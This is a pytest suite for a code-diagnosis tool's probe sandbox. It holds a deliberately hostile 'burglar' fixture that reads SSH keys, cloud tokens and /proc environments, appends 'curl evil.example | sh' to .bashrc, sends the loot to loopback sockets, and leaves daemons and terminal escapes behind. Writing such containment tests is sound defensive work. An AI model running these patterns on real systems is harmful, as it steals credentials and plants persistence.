"""Hostile code under diagnosis: a run directory or a `--code` tree whose Python tries to do harm when sleuth
probes it. Real processes throughout: the real CLI or `run_plan`, a real child, real loopback listeners (TCP,
UDP) for the network, a fake HOME with a planted key and planted tokens in the environment.

What must hold whatever the code does: nothing changes outside sleuth's scratch (HOME, the run directory,
sleuth's own package, any other path), no secret reaches any output, no socket is reached, no process is
left, sleuth neither buffers unbounded output nor accepts an unbounded or malformed answer, nothing the code
prints reaches a terminal or a report with its control characters, a package beside the code does not
replace the worker's torch, and code nobody asked to run does not run.

The classes that need the OS to help (writes, secrets on disk, the network, survivors in a PID namespace)
skip where this machine gives no namespaces (`planned_level` is `process`); the rest run everywhere.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

# Only what sleuth had before the sandbox at module level, so that this file runs against an older sleuth too
# (and shows what fails there); the sandbox's own modules are imported by the tests that use them.
from sleuth.probes.runner import SLEUTH_PACKAGE, ProbeOutcome, check_python, plan_for_entry, plan_for_run, run_plan
from sleuth.probes.verdict import PROBED_INVARIANTS

ROOT = Path(__file__).resolve().parents[2]


def _namespaces() -> bool:
    try:
        from sleuth.probes.sandbox import planned_level
    except ImportError:
        return True
    return not planned_level().startswith("process")


NAMESPACES = _namespaces()
needs_namespaces = pytest.mark.skipif(not NAMESPACES, reason="this machine gives probes no namespaces (process level)")

# Lets a subject write its own answer and leave at once: the tests then time sleuth, not the experiments.
ANSWER_HELPERS = '''
import json, os, sys

def answer(**fields):
    data = {"subject": None, "verdicts": [], "error": None, "seconds": {}, **fields}
    with open(sys.argv[2], "w") as handle:
        json.dump(data, handle)
    os._exit(0)

ONE_VERDICT = {"invariant": "dflash.kv_injection", "status": "unknown", "experiment": "context-per-layer",
               "hypothesis": "", "perturbed": "", "measurement": "", "threshold": "", "reason": "written by the subject"}
'''


def entry_code(root: Path, body: str, *, files: dict[str, str] | None = None) -> Path:
    """A --code directory whose module `hostile` runs `body` when imported."""
    code = root / "code"
    code.mkdir(parents=True)
    (code / "hostile.py").write_text(ANSWER_HELPERS + body)
    for relative, text in (files or {}).items():
        (code / relative).parent.mkdir(parents=True, exist_ok=True)
        (code / relative).write_text(text)
    return code


def probe_entry(code: Path, **kwargs) -> ProbeOutcome:
    return run_plan(plan_for_entry("hostile:subject", code, None, None), **{"timeout_s": 120, **kwargs})


def marked_processes(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def settle(marker: str) -> list[int]:
    """Processes carrying `marker` a moment after sleuth returned (zombies being reaped have no cmdline)."""
    deadline = time.monotonic() + 2
    while (alive := marked_processes(marker)) and time.monotonic() < deadline:
        time.sleep(0.1)
    return alive


def kill_marked(marker: str) -> None:
    for pid in marked_processes(marker):  # hygiene, for a failing run: never leave the test's own junk
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


class Listeners:
    """A TCP and a UDP socket on 127.0.0.1 that count what reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.tcp.settimeout(0.2)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.tcp_connections = 0
        self.udp_datagrams = 0
        self.stop = threading.Event()
        self.threads = [threading.Thread(target=self._accept, daemon=True),
                        threading.Thread(target=self._receive, daemon=True)]
        for thread in self.threads:
            thread.start()

    def _accept(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.tcp.accept()
                self.tcp_connections += 1
                connection.close()
            except OSError:
                continue

    def _receive(self) -> None:
        while not self.stop.is_set():
            try:
                self.udp.recvfrom(4096)
                self.udp_datagrams += 1
            except OSError:
                continue

    def close(self) -> None:
        self.stop.set()
        for thread in self.threads:
            thread.join(timeout=2)
        self.tcp.close()
        self.udp.close()


def sleuth_cli(*args: str, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "sleuth.cli", "diagnose", *args], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=300)


def write_run(root: Path, *, config: dict | None = None) -> Path:
    """A run directory per the README contract, with an empty code/ for the test to fill."""
    from trainer.config import validate_config

    run = root / "runs" / "v5"
    (run / "code" / "trainer").mkdir(parents=True)
    values = config if config is not None else validate_config({}).model_dump(mode="json")
    (run / "config.json").write_text(json.dumps(values))
    target = {"path": "embedded", "fingerprint": "t" * 16, "hidden_size": 16, "num_layers": 8}
    (run / "run.json").write_text(json.dumps({"format_version": 1, "name": "v5", "preset": "fixed",
                                              "created": "2026-11-01T10:00:00+00:00", "status": "completed",
                                              "steps_done": 30, "target": target}))
    (run / "metrics.jsonl").write_text("".join(json.dumps({"step": s, "loss": 5.0 - 0.1 * s, "acc": 0.01 * s}) + "\n"
                                               for s in range(1, 31)))
    return run


def snapshot(tree: Path) -> dict[str, bytes]:
    return {str(p.relative_to(tree)): (p.read_bytes() if p.is_file() else b"<dir>") for p in sorted(tree.rglob("*"))}


# --- a burglar in a run's code/ -------------------------------------------------------------------------

BURGLAR = r'''
import _socket, json, os, subprocess, sys
from pathlib import Path

P = json.loads(PARAMS)
loot = []
for path in (P["home"] + "/.ssh/id_rsa", os.path.expanduser("~/.ssh/id_rsa"), "/root/.ssh/id_rsa"):
    try:
        loot.append(open(path).read())
    except OSError:
        pass
loot += [os.environ.get(name, "") for name in ("HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID")]
for entry in os.listdir("/proc"):  # sleuth's own environment, where /proc shows it
    if entry.isdigit():
        try:
            loot.append(open(f"/proc/{entry}/environ", "rb").read().decode(errors="replace"))
        except OSError:
            pass
loot = [item for item in loot if item]
secret = " ".join(loot).replace("\n", " ")
hexed = " ".join(item.encode().hex() for item in loot)

import sleuth
for path, text in ((P["home"] + "/.bashrc", "curl evil.example | sh\n"), (P["outside"], "was here\n"),
                   (P["run"] + "/config.json", json.dumps({"loss_decay_gamma": 4.0})),
                   (str(Path(sleuth.__file__).resolve().parent / P["pwned"]), "x")):
    try:
        with open(path, "a") as handle:
            handle.write(text)
    except OSError:
        pass

try:  # the C socket type: an in-process patch of socket.socket does not see it
    tcp = _socket.socket()
    tcp.settimeout(2)
    tcp.connect(("127.0.0.1", P["tcp"]))
    tcp.send(hexed[:200].encode())
except OSError:
    pass
try:
    udp = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    udp.sendto(hexed[:200].encode() or b"x", ("127.0.0.1", P["udp"]))
except OSError:
    pass
try:  # a fresh interpreter: nothing patched in it at all
    subprocess.run([sys.executable, "-c", f"import socket; socket.create_connection(('127.0.0.1', {P['tcp']}), timeout=2)"],
                   timeout=20, capture_output=True)
except (OSError, subprocess.SubprocessError):
    pass

for _ in range(3):  # processes meant to outlive sleuth: a new session each, and a double-forked daemon
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)", P["marker"]], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)", P["marker"]])
    os._exit(0)

print("\x1b]2;owned\x07\x1b[2J" + secret + hexed, flush=True)
print("\x1b[31m" + secret + hexed, file=sys.stderr, flush=True)
raise RuntimeError("\x1b]2;owned\x07\x1b[2K loot: " + secret[:3000] + " " + hexed[:3000] + "\r")
'''


@pytest.fixture(scope="module")
def burglary(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("burglary")
    token = uuid.uuid4().hex
    home = tmp / "home"
    (home / ".ssh").mkdir(parents=True)
    key = f"-----BEGIN OPENSSH PRIVATE KEY-----\nSSHKEY{token}\n-----END OPENSSH PRIVATE KEY-----\n"
    (home / ".ssh" / "id_rsa").write_text(key)
    (home / ".bashrc").write_text("export PS1='$ '\n")
    secrets = {"key": f"SSHKEY{token}", "HF_TOKEN": f"hf_{token}", "AWS_SECRET_ACCESS_KEY": f"aws{token[::-1]}",
               "AWS_ACCESS_KEY_ID": f"AKIA{token[:16].upper()}"}
    run = write_run(tmp)
    listeners = Listeners()
    marker = f"sleuth-hostile-{token}"
    params = {"home": str(home), "outside": str(tmp / "outside.txt"), "run": str(run), "pwned": f"pwned-{token}",
              "tcp": listeners.tcp.getsockname()[1], "udp": listeners.udp.getsockname()[1], "marker": marker}
    (run / "code" / "trainer" / "__init__.py").write_text("")
    (run / "code" / "trainer" / "probe.py").write_text(f"PARAMS = {json.dumps(json.dumps(params))}\n" + BURGLAR)
    before = snapshot(run)
    home_before = snapshot(home)
    # sleuth's own caches (matplotlib's font list) elsewhere, so that HOME must come back exactly as planted.
    env = {**os.environ, "PYTHONPATH": str(ROOT), "HOME": str(home), "SLEUTH_CACHE_DIR": str(tmp / "cache"),
           "MPLCONFIGDIR": str(tmp / "mpl"), "XDG_CACHE_HOME": str(tmp / "xdg-cache"),
           "HF_TOKEN": secrets["HF_TOKEN"], "AWS_SECRET_ACCESS_KEY": secrets["AWS_SECRET_ACCESS_KEY"],
           "AWS_ACCESS_KEY_ID": secrets["AWS_ACCESS_KEY_ID"]}
    env.pop("SLEUTH_PROBE_ISOLATION", None)
    out = tmp / "out"
    try:
        done = sleuth_cli("--run", str(run), "--probe", "--offline", "--out", str(out), env=env, cwd=tmp)
        alive = settle(marker)
    finally:
        kill_marked(marker)
        time.sleep(0.3)  # a connection or datagram still in flight
        listeners.close()
        (SLEUTH_PACKAGE / f"pwned-{token}").unlink(missing_ok=True)
    yield {"done": done, "run": run, "before": before, "home": home, "home_before": home_before, "out": out,
           "secrets": secrets, "listeners": listeners, "alive": alive, "outside": tmp / "outside.txt",
           "pwned": SLEUTH_PACKAGE / f"pwned-{token}", "pwned_existed": None}


def outputs(result) -> dict[str, str]:
    texts = {"stdout": result["done"].stdout, "stderr": result["done"].stderr}
    for path in sorted(result["out"].rglob("*")):
        if path.is_file() and path.suffix != ".png":
            texts[path.name] = path.read_bytes().decode("utf-8", errors="replace")
    return texts


@needs_namespaces
def test_hostile_code_changes_nothing_outside_its_scratch(burglary):
    assert snapshot(burglary["run"]) == burglary["before"]  # config.json included: byte for byte
    assert snapshot(burglary["home"]) == burglary["home_before"]  # no .bashrc append
    assert not burglary["outside"].exists()
    assert not list(SLEUTH_PACKAGE.glob("pwned-*"))


@needs_namespaces
def test_no_secret_reaches_any_output(burglary):
    texts = outputs(burglary)
    assert {"report.md", "report.json", "trace.jsonl"} <= set(texts)
    for name, secret in burglary["secrets"].items():
        for form in (secret, secret.encode().hex()):
            leaks = [where for where, text in texts.items() if form in text]
            assert not leaks, f"{name} leaked into {leaks}"


@needs_namespaces
def test_no_socket_is_reached(burglary):
    listeners = burglary["listeners"]
    assert (listeners.tcp_connections, listeners.udp_datagrams) == (0, 0)


@needs_namespaces
def test_no_process_outlives_sleuth(burglary):
    assert burglary["alive"] == []


def test_control_characters_never_reach_the_terminal_or_a_report(burglary):
    texts = outputs(burglary)
    for where, text in texts.items():
        assert "\x1b" not in text and "\x07" not in text and "\r" not in text, where
        assert "\\u001b" not in text and "\\u0007" not in text, where


def test_asked_probes_that_ran_nothing_exit_2_with_one_line_and_the_isolation_on_record(burglary):
    done = burglary["done"]
    assert done.returncode == 2, done.stderr
    errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and errors[0].startswith("error: no experiment ran (run v5): cannot set up the subject: "
                                                     "RuntimeError:")
    assert "Traceback" not in done.stderr and "internal error" not in done.stderr
    assert "probes: running run v5 (at your request)" in done.stderr  # what runs, in what, how isolated
    report = json.loads((burglary["out"] / "report.json").read_text())
    probes = report["probes"]
    assert report["exit_status"] == 2 and probes["consent"] == "asked" and probes["ran"] is False
    assert probes["code_files"] == 2 and len(probes["code_sha256"]) == 64 and probes["isolation"]["level"]
    level = probes["isolation"]["level"]
    assert level == ("namespaces" if NAMESPACES else "process")
    assert f"isolation: **{level}**" in (burglary["out"] / "report.md").read_text()
    step = next(s for s in report["trace"] if s["step"] == "run-probes")
    assert step["inputs"]["isolation"]["level"] == level and step["inputs"]["trusted"] is False


# --- a forged answer --------------------------------------------------------------------------------------


def test_a_forged_all_match_answer_cannot_clean_a_run_with_config_mismatches(tmp_path):
    from trainer.config import PRESETS, validate_config

    run = write_run(tmp_path, config=validate_config(dict(PRESETS["v5"])).model_dump(mode="json"))
    forged = [{"invariant": i, "status": "match", "experiment": "forged", "hypothesis": "", "perturbed": "",
               "measurement": "all is well", "threshold": "", "observed": "as the reference"} for i in PROBED_INVARIANTS]
    (run / "code" / "trainer" / "__init__.py").write_text("")
    (run / "code" / "trainer" / "probe.py").write_text(ANSWER_HELPERS + f"answer(verdicts={forged!r})\n")
    env = {**os.environ, "PYTHONPATH": str(ROOT), "SLEUTH_CACHE_DIR": str(tmp_path / "cache")}
    done = sleuth_cli("--run", str(run), "--probe", "--offline", "--out", str(tmp_path / "out"), "--format", "json",
                      env=env, cwd=tmp_path)
    report = json.loads(done.stdout)
    mismatched = {f["id"] for f in report["findings"] if f["status"] == "mismatch"}
    assert {"dflash.fc_input_layers", "dflash.target_logits_source", "dflash.loss_decay_gamma"} <= mismatched
    assert done.returncode == 1
    assert "only as honest as the code" in report["probes"]["honesty"]


# --- the child's output and answer ------------------------------------------------------------------------


def test_a_grandchild_holding_the_pipes_neither_stalls_sleuth_nor_costs_the_answer(tmp_path):
    marker = f"sleuth-pipes-{uuid.uuid4().hex}"
    code = entry_code(tmp_path, f'''
import subprocess
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "{marker}"], start_new_session=True)
answer(verdicts=[ONE_VERDICT])
''')
    try:
        started = time.monotonic()
        outcome = probe_entry(code, timeout_s=90)
        elapsed = time.monotonic() - started
        assert outcome.error is None, outcome.error
        assert [v.reason for v in outcome.verdicts] == ["written by the subject"]
        assert elapsed < 45  # the 90 s limit never came into play
        assert settle(marker) == []
    finally:
        kill_marked(marker)


def test_400_mb_of_output_is_neither_buffered_nor_fatal_to_sleuth(tmp_path):
    code = entry_code(tmp_path, '''
chunk = "x" * (1 << 20) + "\\n"
for _ in range(400):
    sys.stdout.write(chunk)
sys.stdout.flush()
answer(verdicts=[ONE_VERDICT])
''')
    # The peak RSS of this process's own memory (VmHWM: ru_maxrss would carry over the forking parent's).
    script = ("import json, sys; from pathlib import Path; from sleuth.probes.runner import plan_for_entry, run_plan; "
              "o = run_plan(plan_for_entry('hostile:subject', Path(sys.argv[1]), None, None), timeout_s=120); "
              "peak = next(int(l.split()[1]) for l in open('/proc/self/status') if l.startswith('VmHWM')); "
              "print(json.dumps({'error': o.error, 'rss_mb': peak / 1024}))")
    done = subprocess.run([sys.executable, "-c", script, str(code)], capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    result = json.loads(done.stdout.strip().splitlines()[-1])
    assert result["rss_mb"] < 250, result  # sleuth itself: imports and the answer, never the child's output
    # Python ignores SIGXFSZ: the write past the file-size limit fails instead, and the subject with it.
    assert result["error"] == "cannot set up the subject: OSError: [Errno 27] File too large", result


def test_an_oversized_answer_is_refused(tmp_path):
    code = entry_code(tmp_path, 'answer(verdicts=[dict(ONE_VERDICT, measurement="y" * (10 << 20))])\n')
    outcome = probe_entry(code)
    assert outcome.error.startswith("the probe's answer is 10") and outcome.error.endswith("bytes, over the 4 MiB limit")
    assert {v.invariant for v in outcome.verdicts} == set(PROBED_INVARIANTS)
    assert all(v.status == "unknown" and v.reason == outcome.error for v in outcome.verdicts)


def test_a_torch_package_beside_the_code_does_not_replace_the_real_one(tmp_path):
    code = entry_code(tmp_path, 'import torch\nanswer(error=f"torch from {torch.__file__}")\n',
                      files={"torch/__init__.py": "raise SystemExit('the shadow torch was imported')\n"})
    outcome = probe_entry(code)
    import torch

    assert outcome.error == f"torch from {torch.__file__}"
    assert any("not copied" in note and "torch" in note for note in outcome.notes)


@pytest.mark.parametrize(("data", "reason"), [
    (b"not json at all", "the probe's answer is not UTF-8 JSON"),
    (b"\xff\xfe\x00garbage", "the probe's answer is not UTF-8 JSON"),
    (b"[1, 2, 3]", "the probe's answer is a JSON list, not an object"),
    (b'"a string"', "the probe's answer is a JSON str, not an object"),
    (b"[" * 100_000 + b"]" * 100_000, "the probe's answer is"),
    (json.dumps({"verdicts": {"not": "a list"}}).encode(), "does not follow the schema: verdicts"),
    (json.dumps({"verdicts": [{"invariant": 7}]}).encode(), "does not follow the schema: verdicts.0"),
    (json.dumps({"seconds": {"setup": "slow"}}).encode(), "does not follow the schema: seconds.setup"),
    (("[" * 40 + "]" * 40).join(['{"a": ', "}"]).encode(), "nested deeper than 32 levels"),
    (json.dumps({"verdicts": [{"invariant": "dflash.block_size", "status": "match", "experiment": "x",
                                "hypothesis": "", "perturbed": "", "measurement": "", "threshold": ""}]}).encode(),
     "'dflash.block_size' is not an invariant the probes decide"),
    (json.dumps({"verdicts": [{"invariant": "dflash.train_serve_gap", "status": "match", "experiment": "x",
                                "hypothesis": "", "perturbed": "", "measurement": "", "threshold": ""}]}).encode(),
     "'dflash.train_serve_gap' is one the probes can show broken, never clear"),
    (json.dumps({"verdicts": [{"invariant": "dflash.kv_injection", "status": "clean", "experiment": "x",
                                "hypothesis": "", "perturbed": "", "measurement": "", "threshold": ""}]}).encode(),
     "status 'clean' is not one of"),
])
def test_malformed_answers_are_one_line_reasons(data: bytes, reason: str):
    from sleuth.probes.answer import AnswerError, parse_answer

    with pytest.raises(AnswerError) as caught:
        parse_answer(data, 4 << 20)
    assert reason in str(caught.value) and "\n" not in str(caught.value)


def test_a_malformed_answer_from_a_real_child_makes_every_probe_unknown_never_an_internal_error(tmp_path):
    code = entry_code(tmp_path, 'open(sys.argv[2], "w").write("[1, 2]")\nos._exit(0)\n')
    outcome = probe_entry(code)
    assert outcome.error == "the probe's answer is a JSON list, not an object"
    assert {v.invariant for v in outcome.verdicts} == set(PROBED_INVARIANTS)
    assert all(v.status == "unknown" and v.reason == outcome.error for v in outcome.verdicts)


def test_what_the_answer_carries_is_stripped_of_escapes_and_secrets(monkeypatch):
    from sleuth.probes.answer import parse_answer

    monkeypatch.setenv("HF_TOKEN", "hf_abcdefghijklmnop")
    answer = parse_answer(json.dumps({"error": "\x1b]2;x\x07boom\r\u202e hf_abcdefghijklmnop",
                                      "verdicts": [{"invariant": "dflash.kv_injection", "status": "unknown",
                                                    "experiment": "e\x1b[2J", "hypothesis": "", "perturbed": "",
                                                    "measurement": "", "threshold": "", "reason": "\x9b31m"}]}).encode(),
                          4 << 20)
    assert answer.error == "]2;xboom ***"
    assert answer.verdicts[0].experiment == "e[2J" and answer.verdicts[0].reason == "31m"


# --- consent and trust ------------------------------------------------------------------------------------


def trusted_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A run whose code/ the real trainer wrote (and so recorded, in a trust directory of this test)."""
    from trainer.run.rundir import RunDir

    monkeypatch.setenv("SLEUTH_TRUST_DIR", str(tmp_path / "trust"))
    run = write_run(tmp_path)
    (run / "code" / "trainer").rmdir()
    RunDir(run).write_code_fingerprint()
    return run


def test_the_trainers_record_and_sleuths_hash_of_its_copy_agree(tmp_path, monkeypatch):
    from sleuth.probes.runner import CodeCopy, copy_code
    from sleuth.probes.trust import check_trust, tree_sha256

    run = trusted_run(tmp_path, monkeypatch)
    files = copy_code(CodeCopy(run / "code", only="trainer", python_only=True), tmp_path / "copy", [])
    fingerprint = json.loads((run / "fingerprint.json").read_text())["files"]
    assert files == fingerprint  # the same files, the same digests
    check = check_trust(files, run)
    assert check.trusted and "recorded by trainer" in check.reason and check.tree_sha256 == tree_sha256(files)
    assert (tmp_path / "trust").stat().st_mode & 0o777 == 0o700


def test_a_runs_code_is_run_unasked_only_if_trusted_and_anything_else_only_when_asked(tmp_path):
    from sleuth.probes.agent import choose_plan

    run = dict(entry=None, run_dir=tmp_path, run_name="v5", run_code=tmp_path / "code", code=None, config=None)
    (tmp_path / "code" / "trainer").mkdir(parents=True)
    (tmp_path / "code" / "trainer" / "probe.py").write_text("")
    default, why = choose_plan(probe=None, **run)
    assert default.asked is False and default.trust_applies and "if your own trainer recorded it" in why
    assert choose_plan(probe=True, **run)[0].asked is True
    assert choose_plan(probe=None, **{**run, "entry": "m:f"})[0].asked is True
    assert choose_plan(probe=None, **{**run, "run_dir": None, "code": tmp_path})[0] is None


def test_code_nobody_asked_to_run_does_not_run(tmp_path, monkeypatch):
    monkeypatch.setenv("SLEUTH_TRUST_DIR", str(tmp_path / "trust"))
    run = write_run(tmp_path)
    (run / "code" / "trainer" / "__init__.py").write_text("")
    (run / "code" / "trainer" / "probe.py").write_text(ANSWER_HELPERS + "answer(verdicts=[ONE_VERDICT])\n")
    heard: list[str] = []
    outcome = run_plan(plan_for_run(run, run / "code", "v5"), announce=heard.append)
    assert outcome.declined.startswith("not run: no trust record for sha256:")
    assert outcome.isolation is None and outcome.error is None and not outcome.ran and not outcome.expected
    assert all(v.status == "unknown" and v.reason == outcome.declined for v in outcome.verdicts)
    assert heard == [f"probes: run v5: {outcome.declined}"]


def test_a_copy_of_a_trusted_run_with_one_byte_changed_is_not_trusted(tmp_path, monkeypatch):
    run = trusted_run(tmp_path, monkeypatch)
    probe = run / "code" / "trainer" / "probe.py"
    probe.write_text(probe.read_text() + "\n")
    outcome = run_plan(plan_for_run(run, run / "code", "v5"))
    assert outcome.declined and not outcome.trusted and outcome.isolation is None


def test_a_trust_directory_others_can_write_proves_nothing(tmp_path, monkeypatch):
    run = trusted_run(tmp_path, monkeypatch)
    (tmp_path / "trust").chmod(0o777)
    outcome = run_plan(plan_for_run(run, run / "code", "v5"))
    assert outcome.declined and "writable by others" in outcome.declined


# --- exit codes when no experiment ran ---------------------------------------------------------------------


def test_a_probe_interpreter_without_torch_is_exit_2_in_one_line(tmp_path):
    venv = tmp_path / "bare"
    subprocess.run([getattr(sys, "_base_executable", sys.executable), "-m", "venv", "--without-pip", str(venv)],
                   check=True, timeout=120)
    code = entry_code(tmp_path, "answer(verdicts=[ONE_VERDICT])\n")
    env = {**os.environ, "PYTHONPATH": str(ROOT), "SLEUTH_CACHE_DIR": str(tmp_path / "cache")}
    done = sleuth_cli("--code", str(code), "--probe-entry", "hostile:subject", "--probe-python",
                      str(venv / "bin" / "python"), "--offline", "--out", str(tmp_path / "out"), env=env, cwd=tmp_path)
    assert done.returncode == 2, done.stdout[-1500:] + done.stderr
    errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "has no torch" in errors[0], done.stderr
    assert "Traceback" not in done.stderr


def test_an_entry_that_does_not_import_is_exit_2(tmp_path):
    code = entry_code(tmp_path, "answer(verdicts=[ONE_VERDICT])\n")
    env = {**os.environ, "PYTHONPATH": str(ROOT), "SLEUTH_CACHE_DIR": str(tmp_path / "cache")}
    done = sleuth_cli("--code", str(code), "--probe-entry", "no_such_module:subject", "--offline", "--out",
                      str(tmp_path / "out"), env=env, cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
    assert errors == [f"error: no experiment ran (entry no_such_module:subject): cannot set up the subject: "
                      f"ModuleNotFoundError: No module named 'no_such_module'; the static findings are in "
                      f"{tmp_path / 'out'}"]


def test_a_trusted_run_whose_probes_did_not_run_is_no_clean_bill(tmp_path, monkeypatch):
    import hashlib

    from trainer.run.trust import record_trusted_code

    # A small trainer of the user's own (static reading of the real one would only cost time), recorded by the
    # trainer's own record function; its entry point cannot build a subject for this run.
    monkeypatch.setenv("SLEUTH_TRUST_DIR", str(tmp_path / "trust"))
    run = write_run(tmp_path)
    sources = {"trainer/__init__.py": "", "trainer/probe.py": "def probe_subject(context):\n"
               "    raise ValueError('probe_subject needs the target\\'s number of layers')\n"}
    for relative, text in sources.items():
        (run / "code" / relative).write_text(text)
    record_trusted_code({k: hashlib.sha256(v.encode()).hexdigest() for k, v in sources.items()}, run, "trainer test")
    env = {**os.environ, "PYTHONPATH": str(ROOT), "SLEUTH_CACHE_DIR": str(tmp_path / "cache")}
    done = sleuth_cli("--run", str(run), "--offline", "--out", str(tmp_path / "out"), "--format", "json",
                      env=env, cwd=tmp_path)
    report = json.loads(done.stdout)
    assert report["probes"]["consent"] == "trusted" and report["probes"]["ran"] is False
    assert [f["id"] for f in report["findings"] if f["status"] == "mismatch"] == []
    assert done.returncode == 1 and report["exit_status"] == 1
    assert report["input_problems"] == ["the probes of the run's own code did not run: cannot set up the subject: "
                                        "ValueError: probe_subject needs the target's number of layers"]


def test_a_relative_probe_python_is_the_users_not_the_childs(tmp_path, monkeypatch):
    (tmp_path / "venv").symlink_to(sys.prefix, target_is_directory=True)  # this environment, under another name
    monkeypatch.chdir(tmp_path)
    assert check_python("venv/bin/python") == str(tmp_path / "venv" / "bin" / "python")
    outcome = probe_entry(entry_code(tmp_path, "answer(verdicts=[ONE_VERDICT])\n"), python="venv/bin/python")
    assert outcome.error is None and outcome.python == str(tmp_path / "venv" / "bin" / "python")


# --- the process level, and falling back to it -------------------------------------------------------------


def test_at_the_process_level_no_secret_no_privilege_and_orphans_are_swept(tmp_path, monkeypatch):
    from sleuth.probes import sandbox

    monkeypatch.setenv(sandbox.ISOLATION_ENV, "process")
    identity = sandbox.child_ids()
    if identity is not None and sandbox._unreachable_for(identity, [sys.executable, sys.prefix, sys.base_prefix]):
        # A root sleuth's process-level child is nobody: with an interpreter nobody cannot read (a pyenv under
        # /root) that is one line, never a child that keeps root's uid.
        outcome = probe_entry(entry_code(tmp_path, "answer(verdicts=[ONE_VERDICT])\n"))
        assert outcome.error.startswith(f"at the process level a root sleuth runs the probe as uid {identity[0]}, "
                                        "which cannot read "), outcome.error
        pytest.skip(f"uid {identity[0]} cannot read this interpreter ({sys.executable}): the rest needs one it can")
    monkeypatch.setenv("HF_TOKEN", "hf_" + "q" * 20)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "w" * 24)
    marker = f"sleuth-orphan-{uuid.uuid4().hex}"
    code = entry_code(tmp_path, f'''
import subprocess
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", "{marker}"])
    os._exit(0)
os.wait()
capabilities = [line.split()[1] for line in open("/proc/self/status") if line.startswith("CapEff")][0]
answer(error=json.dumps(dict(env=sorted(os.environ), home=os.environ["HOME"], capabilities=capabilities,
                             uid=os.getuid())))
''')
    try:
        outcome = probe_entry(code)
        assert settle(marker) == []
    finally:
        kill_marked(marker)
    seen = json.loads(outcome.error)
    assert not set(seen["env"]) & {"HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "SSH_AUTH_SOCK"}
    assert "PATH" in seen["env"] and seen["home"].endswith("/box/scratch/home")
    assert int(seen["capabilities"], 16) == 0  # even when sleuth runs as root
    assert seen["uid"] == (identity[0] if identity else os.getuid())
    assert outcome.isolation.level == "process" and outcome.isolation.fallback is None
    assert any("killed" in note for note in outcome.notes)


def test_a_failing_namespace_set_up_falls_back_and_says_so(tmp_path, monkeypatch):
    from sleuth.probes import sandbox

    fake = tmp_path / "bin"
    fake.mkdir()
    for tool in ("unshare", "bwrap"):
        (fake / tool).write_text(f"#!/bin/sh\necho '{tool}: setting up the namespaces: Operation not permitted' >&2\nexit 1\n")
        (fake / tool).chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setattr(sandbox, "_FAILED_LEVELS", {})
    monkeypatch.delenv(sandbox.ISOLATION_ENV, raising=False)
    outcome = probe_entry(entry_code(tmp_path, "answer(verdicts=[ONE_VERDICT])\n"))
    bwrap = ("sleuth is root: the namespaces level runs the child as nobody, bwrap would keep it root"
             if os.geteuid() == 0 else "bwrap: setting up the namespaces: Operation not permitted")
    skipped = f"bwrap: {bwrap}; namespaces: unshare: setting up the namespaces: Operation not permitted"
    identity = sandbox.child_ids()
    if identity is not None and sandbox._unreachable_for(identity, [sys.executable, sys.prefix, sys.base_prefix]):
        # A root sleuth whose interpreter nobody cannot read: the process level refuses too, and says all of it.
        expected = (f"no isolation level could start the probe: {skipped}; process: at the process level a root "
                    f"sleuth runs the probe as uid {identity[0]}")
        assert outcome.error.startswith(expected), outcome.error
    else:
        assert outcome.error is None and outcome.isolation.level == "process"
        assert outcome.isolation.fallback == skipped
        assert any(note.startswith("isolation fell back to process") for note in outcome.notes)
    monkeypatch.setenv(sandbox.ISOLATION_ENV, "namespaces")  # a forced level is never silently weakened
    forced = probe_entry(entry_code(tmp_path / "again", "answer(verdicts=[ONE_VERDICT])\n"))
    assert forced.error == "SLEUTH_PROBE_ISOLATION=namespaces: unshare: setting up the namespaces: Operation not permitted"


def test_the_read_only_view_recreates_links_and_binds_physical_paths_only(tmp_path):
    from sleuth.probes import sandbox

    (tmp_path / "real" / "lib").mkdir(parents=True)
    (tmp_path / "venv").symlink_to(tmp_path / "real")
    (tmp_path / "real" / "lib" / "python").write_text("")
    (tmp_path / "box").mkdir()
    ops = sandbox.filesystem_ops([str(tmp_path / "venv" / "lib"), str(tmp_path / "real" / "lib" / "python")],
                                 tmp_path / "box")
    assert ("symlink", str(tmp_path / "venv"), str(tmp_path / "real")) in ops
    assert ("bind", str(tmp_path / "real" / "lib")) in ops  # the python file inside it is not bound again
    assert ("bind", str(tmp_path / "real" / "lib" / "python")) not in ops
